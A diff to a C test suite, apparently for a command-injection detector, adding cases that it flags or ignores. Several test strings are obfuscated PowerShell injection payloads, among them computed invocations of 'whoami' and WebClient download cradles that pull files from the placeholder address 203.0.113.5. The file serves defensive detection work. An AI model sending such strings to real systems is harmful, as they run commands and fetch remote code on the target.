@@ -680,6 +680,15 @@ static void second_round(void)
     STRONG("x;&(gal i?x) 'whoami'", "ps:&(computed)");
     STRONG("x;&(gcm *ke-e*) 'whoami'", "gcm");
     STRONG("x;&($env:comspec) /c ver", "ps:");
+    STRONG("x;.($pshome[4]+$pshome[30]+'x') 'whoami'", "ps:.(computed)");
+    NONE(". (see notes)");
+    /* a PowerShell member called on a variable */
+    STRONG("x;$w=New-Object Net.WebClient;$w.DownloadFile('http://203.0.113.5/a','a')",
+           "ps:");
+    STRONG("$c.DownloadString('http://203.0.113.5/')", "ps:$var.");
+    NONE("$scope.start(a)");
+    NONE("$el.clear()");
+    NONE("$obj.DownloadFile is a method");
     NONE("&(optional?)");
     NONE("&(see *notes)");
     NONE("Q&('A')");
